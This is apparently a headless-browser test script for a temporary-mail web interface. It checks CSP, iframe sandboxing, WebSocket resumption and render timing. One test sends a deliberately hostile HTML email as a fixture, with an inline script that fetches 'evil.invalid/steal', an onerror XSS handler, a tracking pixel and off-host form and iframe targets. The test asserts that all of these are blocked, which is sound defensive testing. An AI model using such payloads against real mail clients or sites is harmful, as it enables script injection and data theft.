// The web UI in headless Chromium against a real appliance (started by
// tests/it/ui.rs, which passes its URLs). Exits non-zero on the first
// failed check. Prints `BENCH name=value` lines for BENCHMARKS.md.

import { HTTP, launch, sendMail, sendMany, createMailbox, rememberInContext, assert } from './lib.mjs';

const origin = new URL(HTTP);
const wsOrigin = `ws://${origin.host}`;
const overall = setTimeout(() => {
  console.error('browser test timed out after 240 s');
  process.exit(1);
}, 240_000);

function step(name) {
  console.log(`-- ${name}`);
}

function isLocal(url) {
  return url.startsWith(`${HTTP}/`) || url.startsWith(`${wsOrigin}/`) || /^(data|blob|about):/.test(url);
}

// Every off-host request that got past the page's own checks (CSP, sandbox)
// to the network layer, where a catch-all route sees it. The network is
// closed, so the route answers itself: images.invalid gets a 1x1 GIF (to
// tell the remote-images toggle works), everything else is aborted. A
// request the page's policy blocks shows in `attempts` (as DevTools lists
// it, "blocked:csp") but never reaches the route.
async function watchRequests(context) {
  const offHost = [];
  const attempts = [];
  const blocked = [];
  const all = [];
  context.on('request', (request) => {
    all.push(request.url());
    if (!isLocal(request.url())) attempts.push(request.url());
  });
  context.on('requestfailed', (request) => {
    if (!isLocal(request.url())) blocked.push(`${request.url()} (${request.failure()?.errorText})`);
  });
  await context.route(
    (url) => !isLocal(url.href),
    (route) => {
      const url = route.request().url();
      offHost.push(url);
      if (url.startsWith('http://images.invalid/')) {
        return route.fulfill({ status: 200, contentType: 'image/gif', body: Buffer.from('R0lGODlhAQABAAAAACw=', 'base64') });
      }
      return route.abort('blockedbyclient');
    },
  );
  return { offHost, attempts, blocked, all };
}

function watchConsole(page, into) {
  page.on('console', (message) => into.push(`${message.type()}: ${message.text()}`));
  page.on('pageerror', (error) => into.push(`pageerror: ${error.message}`));
}

const { browser, close } = await launch();
let failed = false;
try {
  // bench/ui.sh sets UI_STEPS=timing to time the first render alone.
  if (process.env.UI_STEPS !== 'timing') await liveInboxAndHostileMail();
  await thousandMessageInbox();
} catch (error) {
  failed = true;
  console.error(error && error.stack ? error.stack : error);
} finally {
  await close();
  clearTimeout(overall);
}
process.exit(failed ? 1 : 0);

async function liveInboxAndHostileMail() {
  const context = await browser.newContext();
  const requests = await watchRequests(context);
  const remoteImageRequests = () => requests.offHost.filter((u) => u.startsWith('http://images.invalid/'));
  // Pass-through WebSocket proxy we can cut and refuse, to drop the feed.
  const sockets = [];
  const wsUrls = [];
  let refusing = false;
  let refused = 0;
  await context.routeWebSocket(/\/ws\/inbox\//, (ws) => {
    wsUrls.push(ws.url());
    if (refusing) {
      refused += 1;
      ws.close({ code: 1011, reason: 'test: network down' });
      return;
    }
    sockets.push({ ws, server: ws.connectToServer() });
  });

  const page = await context.newPage();
  const consoleLines = [];
  watchConsole(page, consoleLines);

  step('open / and create an inbox with the page button');
  const response = await page.goto(`${HTTP}/`);
  const csp = response.headers()['content-security-policy'] || '';
  assert(csp.includes("script-src 'self'") && csp.includes("frame-ancestors 'none'"), `strict CSP on /: ${csp}`);
  assert(response.headers()['x-frame-options'] === 'DENY', 'X-Frame-Options: DENY on /');
  await page.getByRole('button', { name: 'Create inbox' }).click();
  const heading = page.locator('#inbox-address');
  await heading.waitFor();
  const address = await heading.getAttribute('data-address');
  assert(address && address.endsWith('@uncorreo.test'), `created address ${address}`);
  await page.locator('#live[data-state="live"]').waitFor({ timeout: 10_000 });

  step('send a mail over SMTP; it appears without reload within 2 s');
  const sentAt = Date.now();
  await sendMail({ to: address, subject: 'Your sign-in code', text: 'Your verification code: 482913\r\nhttps://app.example.com/verify?token=abc' });
  const row = page.locator('.message', { hasText: 'Your sign-in code' });
  await row.waitFor({ timeout: 2000 });
  console.log(`BENCH ui.smtp_to_row_ms=${Date.now() - sentAt}`);
  assert((await row.locator('button.code').allTextContents()).includes('482913'), 'code shown as a copy button in the list');

  step('open it and see the code');
  await row.locator('a.open').click();
  await page.locator('#message-subject', { hasText: 'Your sign-in code' }).waitFor();
  const codes = await page.locator('#codes button').allTextContents();
  assert(codes.includes('482913'), `codes on the message page: ${codes}`);
  const link = page.locator('#links a').first();
  assert((await link.getAttribute('rel')) === 'noopener noreferrer' && (await link.getAttribute('target')) === '_blank', 'links open in a new tab without opener/referrer');
  for (const tab of ['Text', 'HTML', 'Headers', 'Attachments (0)', 'Raw']) {
    await page.getByRole('tab', { name: tab }).click();
    assert((await page.getByRole('tab', { name: tab }).getAttribute('aria-selected')) === 'true', `tab ${tab} selected`);
  }
  await page.locator('pre.raw', { hasText: 'Your verification code: 482913' }).waitFor();

  step('a hostile HTML mail runs no script and makes no off-host request');
  const beforeHostile = requests.offHost.length;
  await sendMail({
    to: address,
    subject: 'Hostile HTML',
    html: [
      '<!doctype html><html><head>',
      '<link rel="stylesheet" href="http://styles.invalid/x.css">',
      '<meta http-equiv="refresh" content="1;url=http://refresh.invalid/">',
      '</head><body>',
      '<h1 id="hello">Hello from a hostile mail</h1>',
      "<script>console.log('PWNED-script'); fetch('http://evil.invalid/steal'); parent.document.title = 'PWNED';</script>",
      '<img src="http://images.invalid/pixel.gif" alt="tracking pixel" width="1" height="1">',
      "<img src=\"x\" onerror=\"console.log('PWNED-onerror')\">",
      '<iframe src="http://frame.invalid/"></iframe>',
      '<form action="http://form.invalid/"><input name="q"><button>go</button></form>',
      '<a id="out" href="https://example.invalid/landing">a link</a>',
      '</body></html>',
    ].join('\n'),
  });
  await page.goto(`${HTTP}/#/inbox/${encodeURIComponent(address)}`);
  const hostileRow = page.locator('.message', { hasText: 'Hostile HTML' });
  await hostileRow.waitFor({ timeout: 5000 });
  await hostileRow.locator('a.open').click();
  await page.getByRole('tab', { name: 'HTML' }).click();
  const frame = page.locator('#html-frame');
  await frame.waitFor();
  const sandbox = (await frame.getAttribute('sandbox')) || '';
  assert(!sandbox.includes('allow-scripts') && !sandbox.includes('allow-same-origin'), `sandbox="${sandbox}"`);
  const htmlResponse = await page.waitForResponse((r) => r.url().includes('/html?'), { timeout: 5000 }).catch(() => null);
  // The frame may already have loaded; fetch its policy directly as well.
  const frameSrc = await frame.getAttribute('src');
  const direct = await fetch(new URL(frameSrc, HTTP));
  const frameCsp = direct.headers.get('content-security-policy') || '';
  assert(direct.status === 200, `HTML view status ${direct.status}`);
  assert(frameCsp.startsWith('sandbox') && frameCsp.includes("default-src 'none'") && !frameCsp.includes('http:'), `HTML view CSP: ${frameCsp}`);
  const frameBody = await direct.text();
  assert(frameBody.includes('<base target="_blank">'), 'links in the HTML view open in a new tab');
  assert(htmlResponse === null || htmlResponse.status() === 200, 'frame loaded');
  await page.frameLocator('#html-frame').locator('#hello').waitFor({ timeout: 5000 });
  // Give a script, the meta refresh and the images every chance to act.
  await page.waitForTimeout(1500);
  const title = await page.title();
  assert(!title.includes('PWNED'), `page title untouched: ${title}`);
  const pwned = consoleLines.filter((l) => l.includes('PWNED'));
  assert(pwned.length === 0, `no script ran: ${pwned}`);
  const offHost = requests.offHost.slice(beforeHostile);
  assert(offHost.length === 0, `no off-host request: ${offHost}`);
  assert(remoteImageRequests().length === 0, 'remote image not requested while blocked');
  console.log(`   ${requests.all.length} requests so far, none off-host; blocked by the browser before leaving: ${requests.blocked.join(', ')}`);

  step('"Load remote images" lets the image (only) through');
  await page.getByRole('button', { name: 'Load remote images' }).click();
  await page.frameLocator('#html-frame').locator('#hello').waitFor();
  const deadline = Date.now() + 5000;
  while (remoteImageRequests().length === 0 && Date.now() < deadline) await page.waitForTimeout(100);
  assert(remoteImageRequests().length > 0, 'remote image requested after the toggle');
  const nonImage = requests.offHost.slice(beforeHostile).filter((u) => !u.startsWith('http://images.invalid/'));
  assert(nonImage.length === 0, `only the image went off-host: ${nonImage}`);
  assert(consoleLines.filter((l) => l.includes('PWNED')).length === 0, 'still no script');

  step('a dropped WebSocket resumes and shows the mail sent meanwhile exactly once');
  await page.goto(`${HTTP}/#/inbox/${encodeURIComponent(address)}`);
  await page.locator('.message', { hasText: 'Hostile HTML' }).waitFor();
  await page.locator('#live[data-state="live"]').waitFor({ timeout: 10_000 });
  const before = await page.locator('.message').count();
  refusing = true;
  for (const { ws, server } of sockets.splice(0)) {
    server.close();
    ws.close({ code: 4000, reason: 'test: drop' });
  }
  await page.locator('#live[data-state="reconnecting"]').waitFor({ timeout: 5000 });
  await sendMail({ to: address, subject: 'Sent while the socket was down', text: 'code 777111' });
  // The page keeps trying while we refuse; at least one attempt must have been turned away.
  const until = Date.now() + 10_000;
  while (refused === 0 && Date.now() < until) await page.waitForTimeout(50);
  assert(refused > 0, 'a reconnect attempt was refused while down');
  refusing = false;
  await page.locator('.message', { hasText: 'Sent while the socket was down' }).waitFor({ timeout: 15_000 });
  await page.locator('#live[data-state="live"]').waitFor({ timeout: 5000 });
  const resumedFrom = wsUrls.at(-1);
  assert(/since=[1-9]/.test(resumedFrom), `resumed with since: ${resumedFrom}`);
  await sendMail({ to: address, subject: 'Sent after the reconnect', text: 'code 888222' });
  await page.locator('.message', { hasText: 'Sent after the reconnect' }).waitFor({ timeout: 2000 });
  assert((await page.locator('.message', { hasText: 'Sent while the socket was down' }).count()) === 1, 'the mail sent while down shows exactly once');
  const seqs = await page.locator('.message').evaluateAll((rows) => rows.map((r) => Number(r.dataset.seq)));
  assert(seqs.length === before + 2, `rows: ${seqs.length}, expected ${before + 2}`);
  assert(new Set(seqs).size === seqs.length, `no duplicate sequence: ${seqs}`);
  assert(seqs.every((s, i) => i === 0 || s < seqs[i - 1]), `newest first: ${seqs}`);

  step('the start page lists the inbox with its count and TTL; delete works');
  await page.goto(`${HTTP}/#/`);
  const listed = page.locator('.inbox', { hasText: address });
  await listed.waitFor();
  assert((await listed.locator('.count').textContent()).startsWith(`${before + 2} `), 'message count on the start page');
  assert(/left$/.test(await listed.locator('.ttl').textContent()), 'TTL countdown');
  page.once('dialog', (dialog) => dialog.accept());
  await listed.getByRole('button', { name: `Delete ${address}` }).click();
  await listed.waitFor({ state: 'detached', timeout: 5000 });

  assert(requests.offHost.filter((u) => !u.startsWith('http://images.invalid/')).length === 0, `no off-host request at all: ${requests.offHost}`);
  const errors = consoleLines.filter((l) => l.startsWith('pageerror'));
  assert(errors.length === 0, `no page errors: ${errors}`);
  await context.close();
}

async function thousandMessageInbox() {
  step('a 1,000-message inbox: first render and page weight');
  const created = await createMailbox('thousand');
  const started = Date.now();
  await sendMany(created.address, 1000, 8, (i) => ({
    subject: `Load message ${i + 1}`,
    text: `Message ${i + 1} of 1000. Your code: ${String(100000 + i)}`,
  }));
  console.log(`   1000 messages over SMTP in ${Date.now() - started} ms`);
  // bench/ui.sh may ask for several first visits (UI_LOADS) to report a
  // median on a noisy machine; the test makes one.
  const loads = Number(process.env.UI_LOADS || 1);
  const rendered = [];
  const painted = [];
  const loaded = [];
  for (let load = 1; load <= loads; load++) {
    const timing = await firstVisit(created);
    rendered.push(timing.renderedMs);
    painted.push(timing.firstPaintMs ?? Number.NaN);
    loaded.push(timing.domContentLoadedMs);
  }
  if (loads > 1) {
    const median = (list) => [...list].sort((a, b) => a - b)[Math.floor(list.length / 2)].toFixed(1);
    const all = (list) => list.map((ms) => ms.toFixed(0)).join(' ');
    console.log(`BENCH ui.inbox1000.median_of_${loads}.rendered_ms=${median(rendered)} (${all(rendered)})`);
    console.log(`BENCH ui.inbox1000.median_of_${loads}.first_contentful_paint_ms=${median(painted)} (${all(painted)})`);
    console.log(`BENCH ui.inbox1000.median_of_${loads}.dom_content_loaded_ms=${median(loaded)} (${all(loaded)})`);
  }
}

// One first visit (a fresh context: nothing cached) of the inbox page of
// `created`; checks what it shows and prints its timing.
async function firstVisit(created) {
  const context = await browser.newContext();
  await rememberInContext(context, created);
  // Watched, not routed: routing would hold every request of the page for a
  // round trip through this script, which no user's browser pays. Any
  // off-host request the page even attempts is listed and fails the check.
  const offHost = [];
  const apiRequests = [];
  context.on('request', (request) => {
    if (!isLocal(request.url())) offHost.push(request.url());
    else if (new URL(request.url()).pathname.startsWith('/api/')) apiRequests.push(new URL(request.url()));
  });
  const page = await context.newPage();
  // A first visit: nothing cached.
  const navigated = Date.now();
  await page.goto(`${HTTP}/#/inbox/${encodeURIComponent(created.address)}`);
  await page.locator('main[data-rendered] .message').first().waitFor();
  const wallMs = Date.now() - navigated;
  const timing = await page.evaluate(() => {
    const mark = performance.getEntriesByName('uncorreo-inbox-rendered')[0];
    const paint = performance.getEntriesByName('first-contentful-paint')[0];
    const nav = performance.getEntriesByType('navigation')[0];
    const resources = performance.getEntriesByType('resource');
    const ui = resources.filter((r) => new URL(r.name).pathname.startsWith('/ui/'));
    const api = resources.filter((r) => new URL(r.name).pathname.startsWith('/api/'));
    const sum = (list, key) => list.reduce((total, r) => total + (r[key] || 0), 0);
    return {
      renderedMs: mark ? mark.startTime : null,
      firstPaintMs: paint ? paint.startTime : null,
      uiBytes: nav.encodedBodySize + sum(ui, 'encodedBodySize'),
      uiFiles: 1 + ui.length,
      domContentLoadedMs: nav.domContentLoadedEventEnd,
      pageTimeline: [
        `html ${nav.requestStart.toFixed(0)}..${nav.responseEnd.toFixed(0)}`,
        ...ui.map((r) => `${new URL(r.name).pathname.slice(4)} ${r.startTime.toFixed(0)}..${r.responseEnd.toFixed(0)}`),
        `interactive ${nav.domInteractive.toFixed(0)}`,
      ],
      apiDoneMs: Math.max(0, ...api.filter((r) => r.responseEnd <= (mark ? mark.startTime : Infinity)).map((r) => r.responseEnd)),
      apiTimeline: api
        .filter((r) => r.responseEnd <= (mark ? mark.startTime : Infinity))
        .map((r) => `${new URL(r.name).pathname.split('/').pop()}${new URL(r.name).search} ${r.startTime.toFixed(0)}..${r.responseEnd.toFixed(0)} ms`),
      apiBytesBeforeRender: sum(api.filter((r) => r.responseEnd <= (mark ? mark.startTime : Infinity)), 'encodedBodySize'),
    };
  });
  // boot.js sends the first two requests before the bundle runs, and the
  // bundle adopts them rather than asking again.
  const mailboxPath = `/api/v1/mailboxes/${encodeURIComponent(created.address)}`;
  const asked = (path, search) => apiRequests.filter((u) => u.pathname === path && u.search.includes(search)).length;
  assert(asked(mailboxPath, '') === 1, `the mailbox asked for once: ${apiRequests.join(' ')}`);
  assert(asked(`${mailboxPath}/messages`, 'latest=true') === 1, `the newest page asked for once: ${apiRequests.join(' ')}`);
  const firstRow = await page.locator('.message').first().getAttribute('data-seq');
  assert(firstRow === '1000', `newest message first: seq ${firstRow}`);
  assert((await page.locator('.message').count()) === 100, 'the list renders one page of rows');
  await page.locator('#message-count', { hasText: '1000 messages' }).waitFor({ timeout: 15_000 });
  await page.getByRole('button', { name: /Show older messages \(900 more\)/ }).waitFor();
  await page.fill('#filter', '100999');
  // The filtered list is drawn at the next animation frame, and the row
  // that matches was on screen before: wait for one that does not to go.
  await page.locator('.message', { hasText: 'Load message 999' }).waitFor({ state: 'detached', timeout: 5000 });
  await page.locator('.message', { hasText: 'Load message 1000' }).waitFor();
  assert((await page.locator('.message').count()) === 1, 'the filter finds one message by its code');
  assert(offHost.length === 0, `no off-host request: ${offHost}`);
  console.log(`BENCH ui.inbox1000.rendered_ms=${timing.renderedMs.toFixed(1)}`);
  console.log(`BENCH ui.inbox1000.first_contentful_paint_ms=${timing.firstPaintMs === null ? 'n/a' : timing.firstPaintMs.toFixed(1)}`);
  console.log(`BENCH ui.inbox1000.wall_ms=${wallMs}`);
  console.log(`BENCH ui.inbox1000.client_render_ms=${(timing.renderedMs - timing.apiDoneMs).toFixed(1)} (last API byte to rows in the DOM)`);
  console.log(`   DOMContentLoaded ${timing.domContentLoadedMs.toFixed(1)} ms; API before render: ${timing.apiTimeline.join('; ')}`);
  console.log(`   page files (ms from navigation start): ${timing.pageTimeline.join('; ')}`);
  console.log(`BENCH ui.page_weight_bytes=${timing.uiBytes} (${timing.uiFiles} files)`);
  console.log(`BENCH ui.inbox1000.api_bytes_before_render=${timing.apiBytesBeforeRender}`);
  await context.close();
  return timing;
}
